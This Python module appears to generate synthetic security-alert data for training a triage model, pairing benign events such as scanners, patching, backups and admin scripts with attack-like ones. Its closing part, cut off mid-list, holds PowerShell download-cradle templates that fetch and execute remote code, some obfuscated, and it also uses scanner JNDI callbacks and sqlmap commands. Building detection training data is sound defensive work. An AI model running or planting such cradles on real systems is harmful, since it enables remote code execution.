"""Scenario catalogue for the synthetic alert stream: who fires which rule, and why.

Each scenario is one small function that draws a source-native alert body (Suricata EVE, EDR,
authentication log, WAF log) from a tenant's pools and returns it with the rule that fired;
``SCENARIOS`` weighs them. False positives come from the everyday causes a SOC sees (scanners,
patching, backups, admin scripts, monitoring, developers, typos); true positives from common
attack techniques. Several FP/TP pairs share the rule, the process and sometimes the parent, so
the verdict is readable only in the free text (command line, URL, arguments, user agent, DNS
name): that is what the teacher has to learn to read.

The types, rule tables, body builders and free-text generators the scenarios share live in
:mod:`alertlens.synth.parts`.
"""

from __future__ import annotations

import base64
from collections.abc import Callable
from dataclasses import dataclass
from random import Random
from urllib.parse import quote

from alertlens.synth.parts import (
    APT_RULE,
    BASE32,
    C2_UAS,
    CMD,
    CMD_PARENT,
    EXE_RULE,
    EXPLORER,
    FP,
    JA3_RULE,
    LOG4J_RULE,
    LONG_DNS_RULE,
    MONITOR_UAS,
    NMAP_UA_RULE,
    ODD_UA_RULE,
    PASSWD_RULE,
    POWERSHELL,
    PROXY_RULE,
    SCHEDULER,
    SQLMAP_RULE,
    SYS32,
    SYSTEM,
    TLS_RULE,
    TP,
    UNION_RULE,
    URL_PARAMS,
    WMIPRVSE,
    YUM_RULE,
    Built,
    Host,
    Parent,
    Site,
    _args,
    _auth,
    _edr,
    _host,
    _http,
    _ids,
    _user,
    _waf,
    browser_ua,
    encode_powershell,
    guid,
    hexs,
    jndi,
    payload_url,
    rce,
    sqli,
    traversal,
    web_path,
    word,
    words,
    xss,
)

# ---- internal vulnerability scanners (FP) -------------------------------------------------------

SCANNER_NET = "10.0.5.0/28"
SCANNERS = (  # (ip, product, the product's own user agent)
    ("10.0.5.2", "Nessus", "Nessus SOAP"),
    ("10.0.5.3", "Nessus", "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 5.1; Trident/4.0)"),
    ("10.0.5.6", "Qualys", "Mozilla/5.0 (compatible; Qualys Vulnerability Scanner)"),
    ("10.0.5.9", "OpenVAS", "Mozilla/5.0 [en] (X11, U; OpenVAS-VT 22.4.1)"),
)
# Probe families: (WAF rule, CRS rule id, IDS signature or "", payload maker).
PROBES: tuple[tuple[str, str, str, Callable[[Random], str]], ...] = (
    ("SQL Injection Attempt", "942100", UNION_RULE, sqli),
    ("Path Traversal Attempt", "930110", PASSWD_RULE, traversal),
    ("Cross-Site Scripting Attempt", "941100", "", xss),
    ("Remote Code Execution Attempt", "932100", "", rce),
)


def _scanner(rng: Random) -> tuple[str, str, str]:
    """(ip, product, user agent) of one internal scanner; half the probes use a browser UA."""
    ip, product, branded = rng.choice(SCANNERS)
    return ip, product, branded if rng.random() < 0.5 else browser_ua(rng)


def _scanner_callback(rng: Random, ip: str, product: str) -> str:
    """Scanners point JNDI lookups back at themselves or at their vendor's canary DNS."""
    if product == "Nessus" and rng.random() < 0.5:
        return f"log4shell-generic-{hexs(rng, 20)}.r.nessus.org/nessus"
    return f"{ip}:{rng.choice((389, 1389, 1099))}/{product.lower()}-{hexs(rng, 12)}"


def scanner_waf(rng: Random, site: Site) -> Built:
    """Internal vulnerability scan of a web app: attack strings answered 403/404/400."""
    ip, product, ua = _scanner(rng)
    status = rng.choice((403, 403, 404, 400))
    if rng.random() < 0.2:
        payload = jndi(rng, _scanner_callback(rng, ip, product))
        request = ("GET", web_path(rng), _args(rng, payload), payload)
        return "Log4j JNDI Injection Attempt", _waf(rng, site, ip, request, status, "944150")
    rule, crs, _, make = rng.choice(PROBES)
    request = (rng.choice(("GET", "GET", "POST")), web_path(rng), _args(rng, make(rng)), ua)
    return rule, _waf(rng, site, ip, request, status, crs)


def scanner_ids(rng: Random, site: Site) -> Built:
    """Internal vulnerability scan seen by the IDS on the server segment."""
    ip, product, ua = _scanner(rng)
    if rng.random() < 0.35:
        rule, url, ua = LOG4J_RULE, web_path(rng), jndi(rng, _scanner_callback(rng, ip, product))
    else:
        _, _, rule, make = rng.choice(PROBES[:2])
        url = f"{web_path(rng)}?{_args(rng, make(rng))}"
    status = rng.choice((403, 404, 404, 400, 301))
    http = _http(rng.choice(site.vhosts), url, ua, "GET", status, rng.randint(0, 600))
    dest = (rng.choice(site.web_servers)[1], rng.choice((80, 443, 8080)))
    return _ids(rng, rule, ip, dest, http, "web")


# ---- patch and update agents (FP) ---------------------------------------------------------------

PRODUCTS = words(
    "GoogleChromeStandaloneEnterprise64.msi 7z2301-x64.msi AcroRdrDCx64.msi "
    "ZoomInstallerFull.msi Teams_windows_x64.msi npp.8.6.2.Installer.x64.msi "
    "vlc-3.0.20-win64.msi FirefoxSetup115.8.0esr.msi jre-8u401-windows-x64.msi LAPS.x64.msi"
)
CCMEXEC: Parent = ("CcmExec.exe", "C:\\Windows\\CCM\\CcmExec.exe")
TIWORKER: Parent = (
    "TiWorker.exe",
    "C:\\Windows\\winsxs\\amd64_microsoft-windows-servicingstack_"
    "31bf3856ad364e35_10.0.19041.3745_none\\TiWorker.exe -Embedding",
)
WUAUSERV: Parent = ("svchost.exe", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s wuauserv")


def patch_edr(rng: Random, site: Site) -> Built:
    """SCCM and Windows Update installing software: msiexec, regsvr32, DismHost from odd paths."""
    host, roll = _host(rng, site, 0.3), rng.random()
    if roll < 0.4:
        cache = f"C:\\Windows\\ccmcache\\{rng.choice(BASE32)}{rng.randint(1, 9)}"
        cmd = (
            f'msiexec.exe /i "{cache}\\{rng.choice(PRODUCTS)}" /qn /norestart REBOOT=ReallySuppress'
        )
        if rng.random() < 0.3:
            cmd += f' /l*v "C:\\Windows\\Temp\\{word(rng)}_install.log"'
        exe = SYS32 + "msiexec.exe"
        return PROXY_RULE, _edr(rng, host, exe, cmd, SYSTEM, CCMEXEC)
    if roll < 0.6:
        dll = f"C:\\Program Files\\{word(rng).title()}\\{word(rng)}{rng.choice((32, 64))}.dll"
        parent = ("msiexec.exe", "C:\\Windows\\system32\\msiexec.exe /V")
        body = _edr(
            rng,
            host,
            SYS32 + "regsvr32.exe",
            f'regsvr32.exe /s "{dll}"',
            SYSTEM,
            parent,
        )
        return PROXY_RULE, body
    if roll < 0.8:
        exe, tag = f"C:\\Windows\\Temp\\{guid(rng)}\\DismHost.exe", guid(rng)
        return "Execution from Unusual Directory", _edr(
            rng, host, exe, f"{exe} {tag}", SYSTEM, TIWORKER
        )
    kb = rng.randint(5030000, 5049999)
    exe = (
        f"C:\\Windows\\SoftwareDistribution\\Download\\{hexs(rng, 32)}\\windows10.0-kb{kb}-x64.exe"
    )
    body = _edr(rng, host, exe, f'"{exe}" /quiet /norestart', SYSTEM, WUAUSERV)
    return "Execution from Unusual Directory", body


def _apt_request(rng: Random, site: Site) -> Built:
    pkg = rng.choice(("openssl", "linux-image-generic", "curl", "nginx", "libc6", "openssh-server"))
    version = (
        f"{rng.randint(1, 9)}.{rng.randint(0, 20)}-0ubuntu{rng.randint(1, 9)}.{rng.randint(1, 30)}"
    )
    url = f"/ubuntu/pool/main/{pkg[0]}/{pkg}/{pkg}_{version}_amd64.deb"
    mirror = rng.choice(
        ("archive.ubuntu.com", "security.ubuntu.com", f"mirror.{site.tenant}.internal")
    )
    ua = f"Debian APT-HTTP/1.3 (2.4.{rng.randint(5, 12)})"
    return _http(mirror, url, ua, "GET", 200, rng.randint(20000, 9000000))


def _yum_request(rng: Random, site: Site) -> Built:
    pkg = rng.choice(("kernel", "openssl-libs", "glibc", "httpd", "sudo", "systemd"))
    version = f"{rng.randint(1, 5)}.{rng.randint(0, 40)}-{rng.randint(1, 500)}"
    url = f"/rocky/9/BaseOS/x86_64/os/Packages/{pkg[0]}/{pkg}-{version}.el9.x86_64.rpm"
    mirror = rng.choice(("dl.rockylinux.org", f"repo.{site.tenant}.internal"))
    ua = "libdnf (Rocky Linux 9.3; generic; Linux.x86_64)"
    return _http(mirror, url, ua, "GET", 200, rng.randint(20000, 9000000))


def _windows_update_request(rng: Random) -> Built:
    kb = rng.randint(5030000, 5049999)
    url = f"/d/msdownload/update/software/secu/2026/01/windows10.0-kb{kb}-x64_{hexs(rng, 40)}.cab"
    host = rng.choice(
        ("download.windowsupdate.com", f"{rng.randint(1, 9)}.tlu.dl.delivery.mp.microsoft.com")
    )
    ua = rng.choice(
        (
            "Microsoft-Delivery-Optimization/10.0",
            "Windows-Update-Agent/10.0.10011.16384 Client-Protocol/2.50",
        )
    )
    return _http(host, url, ua, "GET", 200, rng.randint(100000, 90000000))


def patch_ids(rng: Random, site: Site) -> Built:
    """Package mirrors and Windows Update downloads tripping policy signatures."""
    roll = rng.random()
    if roll < 0.35:
        rule, src, http = APT_RULE, rng.choice(site.linux_servers), _apt_request(rng, site)
    elif roll < 0.6:
        rule, src, http = YUM_RULE, rng.choice(site.linux_servers), _yum_request(rng, site)
    else:
        rule, src, http = EXE_RULE, _host(rng, site, 0.2), _windows_update_request(rng)
    return _ids(rng, rule, src[1], (rng.choice(site.world.cloud_ips), 80), http, "bulk")


# ---- backup jobs (FP, at night) -----------------------------------------------------------------

VEEAM: Parent = (
    "Veeam.Backup.Service.exe",
    '"C:\\Program Files\\Veeam\\Backup and Replication\\Backup\\Veeam.Backup.Service.exe"',
)
DEPARTMENTS = ("Finance", "HR", "Legal", "Sales", "Engineering", "Marketing", "Projects", "Shared")


def backup_job(rng: Random, site: Site) -> Built:
    """Nightly backups: VSS snapshots and rotation, wbadmin, robocopy mirrors, Veeam agents."""
    host, roll = rng.choice(site.windows_servers), rng.random()
    user = rng.choice((SYSTEM, f"{site.netbios}\\svc_backup", f"{site.netbios}\\svc_veeam"))
    drive = rng.choice("CDEF")
    script = ("cmd.exe", f"C:\\Windows\\system32\\cmd.exe /c D:\\Scripts\\{word(rng)}_nightly.cmd")
    parent = rng.choice((VEEAM, SCHEDULER, script))
    if roll < 0.45:
        cmd = rng.choice(
            (
                f"vssadmin.exe create shadow /for={drive}:",
                f"vssadmin list shadows /for={drive}:",
                f"vssadmin delete shadows /for={drive}: /oldest /quiet",
                f"vssadmin resize shadowstorage /for={drive}: /on={drive}: "
                f"/maxsize={rng.randint(5, 20)}%",
            )
        )
        body = _edr(rng, host, SYS32 + "vssadmin.exe", cmd, user, parent)
        return "Shadow Copy Manipulation", body
    if roll < 0.6:
        cmd = (
            f"wbadmin start backup -backupTarget:\\\\{site.file_server}\\wsb$\\{host[0]} "
            f"-include:C:,{drive}: -allCritical -vssFull -quiet"
        )
        body = _edr(rng, host, SYS32 + "wbadmin.exe", cmd, user, parent)
        return "Shadow Copy Manipulation", body
    dept = rng.choice(DEPARTMENTS)
    cmd = (
        f'robocopy.exe "{drive}:\\Shares\\{dept}" "\\\\{site.file_server}\\backup$\\{host[0]}\\'
        f'{dept}" /MIR /R:2 /W:5 /NP /LOG:C:\\Logs\\robocopy_{hexs(rng, 6)}.log'
    )
    if roll < 0.85:
        return "Mass File Copy to Network Share", _edr(
            rng, host, SYS32 + "Robocopy.exe", cmd, user, parent
        )
    exe = "C:\\Program Files\\Veeam\\Backup and Replication\\Backup\\VeeamAgent.exe"
    cmd = f'"{exe}" -l "C:\\ProgramData\\Veeam\\Backup\\{word(rng)}\\Agent.{guid(rng)}.log"'
    return "Mass File Copy to Network Share", _edr(rng, host, exe, cmd, SYSTEM, VEEAM)


# ---- admin scripts (FP) -------------------------------------------------------------------------

PDQ: Parent = (
    "PDQDeployRunner-1.exe",
    '"C:\\Windows\\AdminArsenal\\PDQDeployRunner\\service-1\\exec\\PDQDeployRunner-1.exe"',
)
WSMPROVHOST: Parent = ("wsmprovhost.exe", "C:\\Windows\\system32\\wsmprovhost.exe -Embedding")
# Management tools, the scheduler, WinRM (Ansible) and an admin's own shell: attacks share some.
ADMIN_PARENTS = (CCMEXEC, CCMEXEC, PDQ, WSMPROVHOST, WSMPROVHOST, SCHEDULER, CMD_PARENT, EXPLORER)
ADMIN_SCRIPTS = words(
    "Get-Inventory Set-BitLockerPolicy Clear-TempFiles Install-Fonts Update-RootCerts "
    "Map-Drives Collect-Logs Reset-PrintSpooler Sync-Time Remove-OldProfiles Check-DiskSpace "
    "Deploy-Office Set-PowerPlan Export-EventLogs Rotate-LocalAdmin Repair-WMI Set-Wallpaper "
    "Enable-Defender Get-InstalledApps Cleanup-SCCMCache"
)
ADMIN_INLINE = (
    "Get-WmiObject Win32_QuickFixEngineering | Export-Csv \\\\{fs}\\inventory$\\{h}.csv",
    "Get-Service -Name {w}* | Where-Object Status -eq 'Stopped' | Start-Service",
    "Get-ChildItem C:\\Windows\\Temp -Recurse | Where LastWriteTime -lt (Get-Date).AddDays(-{n}) "
    "| Remove-Item -Force",
    "Restart-Service Spooler -Force; Get-Printer | Select Name,PortName "
    "| Out-File C:\\Temp\\{w}.txt",
    "Get-LocalGroupMember Administrators | Export-Clixml \\\\{fs}\\audit$\\{h}.xml",
)
ADMIN_ARGS = (
    "",
    " -Verbose",
    " -Days {n}",
    " -LogPath C:\\Windows\\Temp\\{w}.log",
    " -Force",
    " -Computer {h}",
    " -Mode Audit",
)
ADMIN_MISC = (  # (rule, image, command line): benign use of binaries attackers also abuse
    (
        "Suspicious Certutil Usage",
        "certutil.exe",
        "certutil.exe -hashfile C:\\Installers\\{w}.msi SHA256",
    ),
    ("Suspicious Certutil Usage", "certutil.exe", "certutil.exe -urlcache * delete"),
    ("Suspicious Certutil Usage", "certutil.exe", "certutil.exe -verify \\\\{fs}\\pki$\\{w}.cer"),
    (
        "Signed Binary Proxy Execution",
        "rundll32.exe",
        "rundll32.exe printui.dll,PrintUIEntry /in /n\\\\{fs}\\{w}-{n}",
    ),
    (
        "Signed Binary Proxy Execution",
        "rundll32.exe",
        "rundll32.exe shell32.dll,Control_RunDLL desk.cpl,,{n}",
    ),
    ("Reconnaissance Command Execution", "whoami.exe", "whoami.exe /upn"),
    (
        "Reconnaissance Command Execution",
        "net.exe",
        "net.exe use H: \\\\{fs}\\home$\\{u} /persistent:no",
    ),
    ("Reconnaissance Command Execution", "net.exe", "net.exe user {u} /domain"),
    ("Reconnaissance Command Execution", "ipconfig.exe", "ipconfig.exe /all"),
    ("Reconnaissance Command Execution", "systeminfo.exe", "systeminfo.exe /fo csv"),
)


def _admin_powershell(rng: Random, site: Site, host: Host) -> str:
    """A script from the management share, or an inline one-liner, under ExecutionPolicy Bypass."""
    values = {"fs": site.file_server, "h": host[0], "w": word(rng), "n": rng.randint(2, 90)}
    if rng.random() < 0.3:
        inline = rng.choice(ADMIN_INLINE).format(**values)
        return (
            f'powershell.exe -NoProfile -NonInteractive -ExecutionPolicy Bypass -Command "{inline}"'
        )
    share = rng.choice(
        (
            f"\\\\{site.file_server}\\scripts$",
            f"\\\\mgmt\\scripts\\{word(rng)}",
            "C:\\ProgramData\\Admin\\Scripts",
        )
    )
    args = rng.choice(ADMIN_ARGS).format(**values)
    script = f"{share}\\{rng.choice(ADMIN_SCRIPTS)}.ps1"
    return f'powershell.exe -ExecutionPolicy Bypass -NoProfile -File "{script}"{args}'


def admin_script(rng: Random, site: Site) -> Built:
    """IT automation and admins: PowerShell with Bypass, certutil hashes, logon-script commands."""
    host = _host(rng, site, 0.35)
    account = rng.choice(("svc_sccm", "svc_ansible", f"adm_{rng.choice(site.users)}"))
    user = SYSTEM if rng.random() < 0.5 else f"{site.netbios}\\{account}"
    parent = rng.choice(ADMIN_PARENTS)
    if rng.random() < 0.7:
        cmd = _admin_powershell(rng, site, host)
        return "Suspicious PowerShell Execution", _edr(rng, host, POWERSHELL, cmd, user, parent)
    rule, image, template = rng.choice(ADMIN_MISC)
    cmd = template.format(
        fs=site.file_server, w=word(rng), n=rng.randint(1, 40), u=rng.choice(site.users)
    )
    logon = (
        "cmd.exe",
        f"C:\\Windows\\system32\\cmd.exe /c \\\\{site.netbios.lower()}.local\\NETLOGON\\logon.bat",
    )
    parent = logon if rule == "Reconnaissance Command Execution" else parent
    return rule, _edr(rng, host, SYS32 + image, cmd, user, parent)


# ---- web applications spawning helpers (FP) -----------------------------------------------------

TOMCAT: Parent = (
    "java",
    "/usr/lib/jvm/java-17-openjdk-amd64/bin/java -Dcatalina.base=/opt/tomcat "
    "-Djava.io.tmpdir=/opt/tomcat/temp org.apache.catalina.startup.Bootstrap start",
)
HTTPD: Parent = ("httpd", "/usr/sbin/httpd -DFOREGROUND")
PHP_FPM: Parent = ("php-fpm", "php-fpm: pool www")
LINUX_WEB_PARENTS = (TOMCAT, HTTPD, PHP_FPM)
LINUX_WEB_USERS = {"java": "tomcat", "httpd": "apache", "php-fpm": "www-data"}


def _iis_pool(rng: Random) -> str:
    return rng.choice(("DefaultAppPool", "Portal", "Intranet", f"{word(rng).title()}App"))


def _w3wp(rng: Random, pool: str) -> Parent:
    """The IIS worker process serving application pool ``pool``."""
    return (
        "w3wp.exe",
        f'c:\\windows\\system32\\inetsrv\\w3wp.exe -ap "{pool}" -v "v4.0" -l '
        f'"webengine4.dll" -a \\\\.\\pipe\\iisipm{guid(rng)[1:-1].lower()} -h '
        f'"C:\\inetpub\\temp\\apppools\\{pool}\\{pool}.config" -w "" -m 0',
    )


def webapp_helper(rng: Random, site: Site) -> Built:
    """Web applications that legitimately shell out: thumbnails, reports, PDF export."""
    app, n, h = word(rng), rng.randint(1, 99999), hexs(rng, 16)
    if rng.random() < 0.6:
        host, parent = rng.choice(site.linux_web), rng.choice(LINUX_WEB_PARENTS)
        cmd = rng.choice(
            (
                f"/bin/sh -c /opt/{app}/bin/generate_report.sh --id {n}",
                f"sh -c /usr/bin/convert /var/www/uploads/{h}.jpg -resize 320x320 "
                f"/var/www/thumbs/{h}.jpg",
                f"/bin/sh -c /usr/bin/wkhtmltopdf /tmp/{app}-{n}.html /tmp/{app}-{n}.pdf",
                f"sh -c git -C /var/www/{app} rev-parse HEAD",
            )
        )
        user = LINUX_WEB_USERS[parent[0]]
        return "Web Server Spawned Shell", _edr(rng, host, "/bin/sh", cmd, user, parent)
    host, pool = rng.choice(site.iis_servers), _iis_pool(rng)
    cmd = rng.choice(
        (
            f'cmd.exe /c "C:\\inetpub\\{app}\\bin\\export.bat" {n}',
            f"cmd.exe /c C:\\inetpub\\{app}\\tools\\wkhtmltopdf.exe --quiet "
            f"C:\\Windows\\Temp\\{h}.html C:\\Windows\\Temp\\{h}.pdf",
        )
    )
    user = f"IIS APPPOOL\\{pool}"
    return "Web Server Spawned Shell", _edr(rng, host, CMD, cmd, user, _w3wp(rng, pool))


# ---- monitoring health checks (FP) --------------------------------------------------------------

HEALTH_PATHS = words(
    "/health /healthz /status /server-status /metrics /api/v1/health /actuator/health /ping "
    "/ready /nginx_status /actuator/prometheus"
)
SENSITIVE_PATHS = ("/server-status", "/actuator/health", "/actuator/prometheus", "/nginx_status")


def monitoring_waf(rng: Random, site: Site) -> Built:
    """Nagios, Zabbix, Prometheus and cloud probes polling health endpoints through the WAF."""
    client = (
        rng.choice(site.monitors)[1] if rng.random() < 0.7 else rng.choice(site.world.cloud_ips)
    )
    path = rng.choice(HEALTH_PATHS)
    args = rng.choice(("", "", "format=json", f"auto&t={rng.randint(10**9, 2 * 10**9)}"))
    request = ("GET", path, args, rng.choice(MONITOR_UAS))
    if path in SENSITIVE_PATHS:
        return "Sensitive Path Access", _waf(rng, site, client, request, 200, "920440")
    return "Suspicious User-Agent", _waf(rng, site, client, request, 200, "913101")


def monitoring_ids(rng: Random, site: Site) -> Built:
    """Monitoring agents with non-browser user agents polling internal services."""
    target = rng.choice(site.windows_servers + site.linux_servers)
    probe = f"/probe?target={target[0]}&module=http_2xx"  # Prometheus blackbox exporter
    url = probe if rng.random() < 0.2 else rng.choice(HEALTH_PATHS)
    vhost, ua = f"{target[0]}.{site.tenant}.internal", rng.choice(MONITOR_UAS)
    http = _http(vhost, url, ua, "GET", 200, rng.randint(40, 9000))
    dest = (target[1], rng.choice((80, 8080, 9100, 9090, 10050)))
    return _ids(rng, ODD_UA_RULE, rng.choice(site.monitors)[1], dest, http, "web")


# ---- SaaS and CDN traffic (FP) ------------------------------------------------------------------

REGIONS = ("us-east-1", "eu-west-1", "eu-central-1", "us-west-2", "ap-southeast-2")


def _saas_sni(rng: Random) -> str:
    """Cloud hostnames look random too: CloudFront ids, API gateways, blob storage."""
    return rng.choice(
        (
            f"d{''.join(rng.choices(BASE32[:26] + '0123456789', k=13))}.cloudfront.net",
            f"{hexs(rng, 10)}.execute-api.{rng.choice(REGIONS)}.amazonaws.com",
            f"{word(rng)}{rng.randint(1, 99)}.blob.core.windows.net",
            f"{word(rng)}-{hexs(rng, 6)}.azureedge.net",
            f"telemetry.{word(rng)}.io",
            f"ingest.{rng.choice(('us', 'eu'))}.{word(rng)}cloud.com",
        )
    )


def saas_tls(rng: Random, site: Site) -> Built:
    """Business apps reaching newly seen SaaS and CDN hosts, some with non-browser TLS stacks."""
    ja3 = rng.choice(site.world.common_ja3 if rng.random() < 0.75 else site.world.rare_ja3)
    tls = (
        "tls",
        {
            "sni": _saas_sni(rng),
            "version": rng.choice(("TLS 1.2", "TLS 1.3", "TLS 1.3")),
            "ja3": {"hash": ja3},
        },
    )
    rule = TLS_RULE if rng.random() < 0.6 else JA3_RULE
    src = _host(rng, site, 0.25)[1]
    dest = (rng.choice(site.world.cloud_ips), 443)
    return _ids(rng, rule, src, dest, tls, rng.choice(("web", "bulk")))


def av_reputation_dns(rng: Random, site: Site) -> Built:
    """Anti-virus cloud lookups encode file hashes in long DNS labels, like a tunnel would."""
    rrname = rng.choice(
        (
            f"{hexs(rng, 40)}.{rng.randint(1, 4)}.f.{hexs(rng, 2)}.sophosxl.net",
            f"{''.join(rng.choices(BASE32, k=52))}.avqs.mcafee.com",
            f"{hexs(rng, 32)}.{hexs(rng, 8)}.e5.sk",
            f"{hexs(rng, 56)}.hashlookup.{rng.choice(('sentinelone', 'crowdstrike'))}-cloud.net",
        )
    )
    dns = ("dns", {"rrname": rrname, "rrtype": rng.choice(("A", "A", "TXT", "AAAA"))})
    dest = (rng.choice(site.dns_servers)[1], 53)
    return _ids(rng, LONG_DNS_RULE, _host(rng, site, 0.2)[1], dest, dns, "dns")


# ---- developers running security tools against staging (FP) -------------------------------------

NMAP_UA = "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"
NMAP_PROBES = ("/", "/HNAP1", "/evox/about", "/.git/HEAD", "/nmaplowercheck{n}")


def _sqlmap_ua(rng: Random) -> str:
    return f"sqlmap/1.{rng.randint(5, 8)}.{rng.randint(1, 12)}#stable (https://sqlmap.org)"


def _staging_vhost(rng: Random, site: Site) -> str:
    return f"{rng.choice(('stg', 'staging', 'dev', 'uat'))}-{word(rng)}.{site.tenant}.internal"


def dev_tools_ids(rng: Random, site: Site) -> Built:
    """A developer's nmap or sqlmap run against a staging server."""
    dev, target = rng.choice(site.dev_workstations), rng.choice(site.staging)
    if rng.random() < 0.5:
        rule, ua = NMAP_UA_RULE, NMAP_UA
        url = rng.choice(NMAP_PROBES).format(n=rng.randint(10**9, 2 * 10**9))
    else:
        rule, ua, url = SQLMAP_RULE, _sqlmap_ua(rng), f"{web_path(rng)}?{_args(rng, sqli(rng))}"
    status = rng.choice((200, 404, 500, 302))
    http = _http(_staging_vhost(rng, site), url, ua, "GET", status, rng.randint(0, 20000))
    return _ids(rng, rule, dev[1], (target[1], rng.choice((80, 443, 8080, 8443))), http, "web")


def dev_tools_waf(rng: Random, site: Site) -> Built:
    """sqlmap or Burp from a dev workstation: real payloads, sometimes answered 200, on staging."""
    dev = rng.choice(site.dev_workstations)
    rule, crs, _, make = rng.choice(PROBES[:3])
    ua = (
        _sqlmap_ua(rng)
        if rule == "SQL Injection Attempt" and rng.random() < 0.6
        else browser_ua(rng)
    )
    request = (rng.choice(("GET", "POST")), web_path(rng), _args(rng, make(rng)), ua)
    body = _waf(rng, site, dev[1], request, rng.choice((200, 200, 500, 403, 404)), crs)
    body["host"]["name"] = rng.choice(site.staging)[0]
    body["request"]["host"] = _staging_vhost(rng, site)
    return rule, body


def dev_tools_edr(rng: Random, site: Site) -> Built:
    """nmap, sqlmap and Burp Suite launched on a developer's workstation."""
    dev, target, user = (
        rng.choice(site.dev_workstations),
        rng.choice(site.staging),
        _user(rng, site),
    )
    roll = rng.random()
    if roll < 0.5:
        exe = "C:\\Program Files (x86)\\Nmap\\nmap.exe"
        cmd = rng.choice(
            (
                f"nmap -sV -p 1-{rng.choice((1024, 10000, 65535))} {target[1]}",
                f"nmap -sC -sV -oX scan_{word(rng)}.xml {target[0]}",
                f"nmap -T4 -F {target[1].rsplit('.', 1)[0]}.0/24",
            )
        )
    elif roll < 0.8:
        exe = "C:\\Python311\\python.exe"
        cmd = (
            f'python.exe sqlmap.py -u "https://{_staging_vhost(rng, site)}{web_path(rng)}?'
            f'{rng.choice(URL_PARAMS)}=1" --batch --level {rng.randint(1, 5)} '
            f"--risk {rng.randint(1, 3)}"
        )
    else:
        exe = "C:\\Program Files\\BurpSuiteCommunity\\jre\\bin\\javaw.exe"
        cmd = (
            f'"{exe}" -Xmx4g -jar "C:\\Program Files\\BurpSuiteCommunity\\burpsuite_community.jar"'
        )
    parent = rng.choice(
        (
            ("WindowsTerminal.exe", "WindowsTerminal.exe"),
            ("Code.exe", f"Code.exe --type=ptyHost {hexs(rng, 8)}"),
            CMD_PARENT,
            EXPLORER,
        )
    )
    return "Hacktool Execution", _edr(rng, dev, exe, cmd, user, parent)


# ---- legitimate input that looks like an attack (FP) --------------------------------------------

BENIGN_TRIGGERS = (  # (WAF rule, CRS id, arguments) that real users send
    ("SQL Injection Attempt", "942100", "name={last}&first={first}"),
    ("SQL Injection Attempt", "942100", "q=select+a+plan+for+{n}+users"),
    ("SQL Injection Attempt", "942130", "company=Credit+Union+of+{city}&select=all"),
    ("SQL Injection Attempt", "942440", "comment=Great+service+--+will+order+again"),
    ("SQL Injection Attempt", "942100", "search={first}%27s+{n}+order"),
    ("Path Traversal Attempt", "930100", "path=../assets/img/logo-{n}.png"),
    ("Cross-Site Scripting Attempt", "941100", "bio=I+love+%3Cb%3Ebold%3C%2Fb%3E+text+{n}"),
    ("Remote Code Execution Attempt", "932100", "note=meeting+at+{n}%3B+bring+laptop+%26+charger"),
)
IRISH_NAMES = ("O%27Brien", "O%27Neil", "D%27Angelo", "O%27Connor", "D%27Souza", "L%27Oreal")
CITIES = ("Texas", "Ohio", "Leeds", "Dublin", "Toronto", "Munich")


def benign_waf_trigger(rng: Random, site: Site) -> Built:
    """Customers with apostrophes in their names and SQL words in their searches (answered 200)."""
    rule, crs, template = rng.choice(BENIGN_TRIGGERS)
    args = template.format(
        last=rng.choice(IRISH_NAMES),
        first=rng.choice(site.users).split(".")[0],
        n=rng.randint(2, 500),
        city=rng.choice(CITIES),
    )
    client = rng.choice(site.home_ips)[0]
    request = (rng.choice(("GET", "POST")), web_path(rng), args, browser_ua(rng))
    return rule, _waf(rng, site, client, request, 200 if rng.random() < 0.8 else 403, crs)


# ---- authentication noise (FP) ------------------------------------------------------------------

AUTH_TARGETS = {
    "vpn": "vpn-gw-{n:02d}",
    "owa": "owa-{n:02d}",
    "sso": "adfs-{n:02d}",
    "ssh": "bastion-{n:02d}",
}


# Methods each service accepts; spraying and typos only concern the password-based ones.
AUTH_METHODS = {
    "vpn": ("password", "mfa"),
    "owa": ("password", "ntlm"),
    "sso": ("password", "kerberos", "ntlm", "mfa"),
    "ssh": ("password", "ssh_key"),
}


def _target(rng: Random, service: str) -> str:
    return AUTH_TARGETS[service].format(n=rng.randint(1, 3))


def password_typo(rng: Random, site: Site) -> Built:
    """A user mistypes a password a few times, often succeeding afterwards."""
    service = rng.choice(("vpn", "owa", "sso", "sso"))
    method = rng.choice(AUTH_METHODS[service])
    client = (
        rng.choice(site.home_ips)
        if service == "vpn" or rng.random() < 0.3
        else (_host(rng, site, 0)[1], site.country)
    )
    failures = rng.randint(2, 9)
    outcome = "success" if rng.random() < 0.35 else "failure"
    rule = "Brute Force Attempt" if failures >= 6 else "Multiple Failed Logins"
    auth = (service, method, outcome, failures, rng.choice((1, 1, 1, 2)))
    return rule, _auth(site, rng.choice(site.users), client, _target(rng, service), auth)


def expired_service_account(rng: Random, site: Site) -> Built:
    """A service account keeps retrying with its old password after a rotation."""
    server = rng.choice(site.windows_servers + site.linux_servers)
    service = rng.choice(("sso", "sso", "owa", "ssh"))
    auth = (service, rng.choice(AUTH_METHODS[service]), "failure", rng.randint(20, 600), 1)
    user, client = rng.choice(site.service_accounts), (server[1], site.country)
    return "Brute Force Attempt", _auth(site, user, client, _target(rng, service), auth)


def internet_ssh_noise(rng: Random, site: Site) -> Built:
    """Internet background noise: bots guessing root/admin on exposed SSH, never succeeding."""
    ip, country = rng.choice(site.world.attackers)
    user = rng.choice(
        ("root", "admin", "ubuntu", "test", "oracle", "postgres", "git", "user", "pi")
    )
    auth = ("ssh", "password", "failure", rng.randint(40, 3000), rng.randint(2, 40))
    return "Brute Force Attempt", _auth(site, user, (ip, country), _target(rng, "ssh"), auth)


# ---- encoded PowerShell download cradles (TP) ---------------------------------------------------

CRADLES = (
    "IEX (New-Object Net.WebClient).DownloadString('{url}')",
    "$wc=New-Object System.Net.WebClient;$wc.Headers.Add('User-Agent','{ua}');"
    "IEX($wc.DownloadString('{url}'))",
    "Invoke-Expression (Invoke-WebRequest -UseBasicParsing -Uri '{url}').Content",
    "[Net.ServicePointManager]::SecurityProtocol=[Net.SecurityProtocolType]::Tls12;"
    "iex(iwr '{url}' -UseBasicParsing)",
    "$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String((New-Object Net.WebClient)."
    "DownloadString('{url}')));IEX (New-Object IO.StreamReader(New-Object IO.Compression."
    "GzipStream($s,[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()",
